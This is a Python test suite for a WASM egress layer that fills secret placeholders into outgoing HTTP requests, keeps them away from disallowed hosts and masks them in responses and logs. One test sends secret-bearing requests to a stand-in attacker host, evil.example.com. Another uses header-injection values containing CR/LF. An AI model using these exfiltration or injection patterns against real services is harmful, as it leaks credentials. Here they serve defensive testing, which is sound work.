"""Secrets: filled in where a guest may have them sent, and seen by nobody else."""

import base64
import json
import logging
from urllib.parse import parse_qs, quote, quote_plus

import pytest

from adapters.wasm.contract import HttpError, HttpRequest
from tests.unit.wasm.egress.conftest import DROP, HOST, SECRETS, SILENCE, URL, answer

KEY, PASSWORD = SECRETS["api_key"], SECRETS["password"]
PLAIN = {"api_key": "sk_live_1234567890", "password": PASSWORD, "short": "abc", "empty": ""}


def basic(user, password):
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


HEADERS = {
    "{{secret:password}}": "pass:word",
    "Bearer {{secret:password}}": "Bearer pass:word",
    "{{secret:password}}{{secret:short}}": "pass:wordabc",
    "{{basic:account:password}}": basic("AC1", "pass:word"),
    "{{basic:password:short}}": basic("pass:word", "abc"),
    "{{ secret:password }}": "{{ secret:password }}",
    "{{{{secret:password}}}}": "{{pass:word}}",
    "{{other:password}}": "{{other:password}}",
    "{{secret:pass word}}": "{{secret:pass word}}",
    "{{secret:": "{{secret:",
}


@pytest.mark.parametrize(("written", "sent"), HEADERS.items())
async def test_in_a_header(send, provider, written, sent):
    assert (await send(headers=[("authorization", written)])).status == 200
    assert dict(provider.last[1])["authorization"] == sent


async def test_in_a_url_it_is_percent_encoded(send, provider):
    url = f"https://{HOST}/bot{{{{secret:api_key}}}}/send?key={{{{secret:api_key}}}}"
    assert (await send(url)).status == 200
    encoded = quote(KEY, safe="")
    assert provider.last[0] == f"POST /bot{encoded}/send?key={encoded} HTTP/1.1"


SECRET = "secret"
UNKNOWN = {
    "{{secret:nothing}}": "the configuration has no secret nothing",
    "{{secret:account}}": "the configuration has no secret account",
    "{{secret:empty}}": "the configuration has no secret empty",
    "{{secret:password:" + "0" * 32 + "}}": (
        "password: its placeholder is not of this configuration"
    ),
    "{{basic:account}}": "{{basic:…}} names two values of the configuration",
    "{{basic:account:nothing}}": "nothing is not configured",
    "{{basic:nothing:password}}": "nothing is not configured",
    "{{basic:retries:password}}": "retries is not configured",
    "{{token:nothing}}": "the manifest has no token nothing",
}


@pytest.mark.parametrize(("written", "why"), UNKNOWN.items())
async def test_a_placeholder_that_names_nothing(send, provider, written, why):
    got = await send(headers=[("authorization", f"Bearer {written}")])
    assert got == HttpError("secret", why, maybe_sent=False)
    assert provider.requests == []


async def test_basic_is_for_headers(send, provider):
    got = await send(f"{URL}?a={{{{basic:account:password}}}}")
    assert (got.kind, provider.requests) == ("secret", [])


@pytest.mark.parametrize("secret", ["a\r\nb: c", "a\nb", "a\0b", "\u2028"])
async def test_a_secret_that_would_end_the_header(send, provider, secret):
    got = await send(headers=[("x", "{{secret:api_key}}")], secrets={"api_key": secret})
    assert (got.kind, got.maybe_sent, provider.requests) == ("forbidden", False, [])
    assert secret not in got.message


# A body holds what users wrote, too


@pytest.mark.parametrize(
    "content_type", ["application/json", "application/x-www-form-urlencoded", "text/plain", None]
)
async def test_a_user_cannot_have_a_secret_sent(send, provider, content_type):
    headers = [("content-type", content_type)] if content_type else []
    body = '{"text":"{{secret:password}} {{basic:account:password}} {{token:firebase}}"}'
    assert (await send(headers=headers, body=body)).status == 200
    assert provider.last[2] == body.encode()


BODIES = {
    "application/json; charset=utf-8": ('{"key":"%s"}', lambda sent: json.loads(sent)["key"]),
    "application/vnd.api+json": ('{"key":"%s"}', lambda sent: json.loads(sent)["key"]),
    "application/x-www-form-urlencoded": (
        "to=1&key=%s&text=%%7B%%7B",
        lambda sent: parse_qs(sent.decode())["key"][0],
    ),
    "text/plain": ("%s", bytes.decode),
}


@pytest.mark.parametrize(("content_type", "shape"), BODIES.items())
async def test_what_the_host_gave_is_filled_in_in_a_body(
    egress, installed, provider, content_type, shape
):
    template, read = shape
    adapter = installed(secrets={"api_key": 'k"\\&= é\n{{secret:short}}'})
    sealed = egress.placeholder(adapter, "api_key")
    request = HttpRequest("POST", URL, (("Content-Type", content_type),), template % sealed)
    assert (await egress.port(adapter).send(request)).status == 200
    assert read(provider.last[2]) == 'k"\\&= é\n{{secret:short}}'


async def test_what_the_host_gave_is_good_everywhere_else_too(egress, installed, provider):
    adapter = installed()
    sealed = egress.placeholder(adapter, "password")
    request = HttpRequest("GET", f"{URL}?a={sealed}", (("x", f"Bearer {sealed}"),))
    await egress.port(adapter).send(request)
    assert provider.last[0] == "GET /v1/messages?a=pass%3Aword HTTP/1.1"
    assert dict(provider.last[1])["x"] == "Bearer pass:word"


async def test_what_the_host_gave_may_be_percent_encoded(egress, installed, provider):
    adapter = installed()
    sealed = quote(egress.placeholder(adapter, "password"), safe="")
    forged = quote("{{secret:password:" + "0" * 32 + "}}", safe="")
    form = (("content-type", "application/x-www-form-urlencoded"),)
    request = HttpRequest("POST", f"{URL}?a={sealed}", form, f"key={sealed}&text={forged}")
    await egress.port(adapter).send(request)
    assert provider.last[0] == "POST /v1/messages?a=pass%3Aword HTTP/1.1"
    assert provider.last[2] == f"key=pass%3Aword&text={forged}".encode()


async def test_what_the_host_gave_is_good_for_one_configuration(egress, installed, provider):
    mine = installed()
    for other in (installed(tenant="other"), installed(revision=2)):
        sealed = egress.placeholder(other, "password")
        assert sealed != egress.placeholder(mine, "password")
        await egress.port(mine).send(HttpRequest("POST", URL, body=sealed))
        assert provider.last[2] == sealed.encode()


async def test_there_is_no_placeholder_for_what_is_no_secret(egress, installed):
    with pytest.raises(KeyError):
        egress.placeholder(installed(), "account")


# Only to where the manifest says


async def test_no_secret_goes_elsewhere(send, provider, egress_with, installed):
    everywhere = egress_with({"evil.example.com": f"http://127.0.0.1:{provider.port}"})
    for url in (
        "https://evil.example.com/?k={{secret:api_key}}",
        "https://{{secret:api_key}}/",
        "https://{{secret:api_key}}.example.com/",
        "http://api.example.com/?k={{secret:api_key}}",
    ):
        request = HttpRequest("POST", url, (("x", "{{secret:api_key}}"),))
        got = await everywhere.port(installed(secrets=PLAIN)).send(request)
        assert got.kind == "forbidden"
        assert PLAIN["api_key"] not in got.message
    assert provider.connections == 0


async def test_no_error_and_no_log_holds_a_secret(send, provider, caplog):
    caplog.set_level(logging.DEBUG)
    url = f"{URL}?k={{{{secret:api_key}}}}"
    headers = [("authorization", "{{secret:api_key}}"), ("x", "{{basic:account:password}}")]
    for said in (DROP, SILENCE, b"nonsense\r\n\r\n", answer(b"x" * 999)):
        provider.answers = [said]
        got = await send(url, headers=headers, timeout_ms=100, response_bytes=100, secrets=PLAIN)
        assert isinstance(got, HttpError)
        for secret in (PLAIN["api_key"], PASSWORD, basic("AC1", PASSWORD)):
            assert secret not in got.message
            assert secret not in caplog.text


# What an answer repeats


ECHOES = {
    "as it is": KEY,
    "in JSON": json.dumps({"error": f"bad key {KEY}"}),
    "in JSON, unescaped": json.dumps({"error": f"bad key {KEY}"}, ensure_ascii=False),
    "in a URL": f"/bot{quote(KEY, safe='')}/send",
    "in a form": f"key={quote_plus(KEY)}",
    "in base64": base64.b64encode(KEY.encode()).decode(),
    "in basic": basic("AC1", PASSWORD),
    "twice": f"{KEY}{KEY} {PASSWORD}",
}


@pytest.mark.parametrize("said", ECHOES.values(), ids=ECHOES.keys())
async def test_a_secret_in_an_answer_is_masked(send, provider, said):
    provider.answers = [answer(said.encode())]
    # The first of them makes the Basic text known; what was not used is masked as well.
    got = await send(headers=[("authorization", "{{basic:account:password}}")])
    hidden = [KEY, PASSWORD, quote(KEY, safe=""), quote_plus(KEY), json.dumps(KEY)[1:-1]]
    hidden += [base64.b64encode(KEY.encode()).decode(), basic("AC1", PASSWORD)[6:]]
    assert "[secret]" in got.body
    assert not [secret for secret in hidden if secret in got.body]


async def test_a_secret_in_a_long_answer_is_masked(send, provider):
    provider.answers = [answer(b"x" * 300_000 + PLAIN["api_key"].encode())]
    got = await send(secrets=PLAIN)
    assert got.body == "x" * 300_000 + "[secret]"


async def test_a_secret_in_a_long_request_is_filled_in(egress, installed, provider):
    adapter = installed(secrets=PLAIN)
    body = "x" * 200_000 + egress.placeholder(adapter, "api_key")
    assert (await egress.port(adapter).send(HttpRequest("POST", URL, body=body))).status == 200
    assert provider.last[2] == b"x" * 200_000 + PLAIN["api_key"].encode()


async def test_a_secret_in_a_header_of_an_answer_is_masked(send, provider):
    provider.answers = [answer(b"", f"location: https://x/?k={PLAIN['api_key']}&a=b")]
    got = await send(secrets=PLAIN)
    assert ("location", "https://x/?k=[secret]&a=b") in got.headers


async def test_the_whole_of_a_longer_secret_is_masked(send, provider):
    provider.answers = [answer(b"abcdef abcdefghi")]
    got = await send(secrets={"one": "abcdef", "two": "abcdefghi"})
    assert got.body == "[secret] [secret]"


async def test_what_is_too_short_to_be_told_from_text_is_left(send, provider):
    provider.answers = [answer(b'{"alphabet":"abcde","account":"AC1"}')]
    assert (await send()).body == '{"alphabet":"abcde","account":"AC1"}'
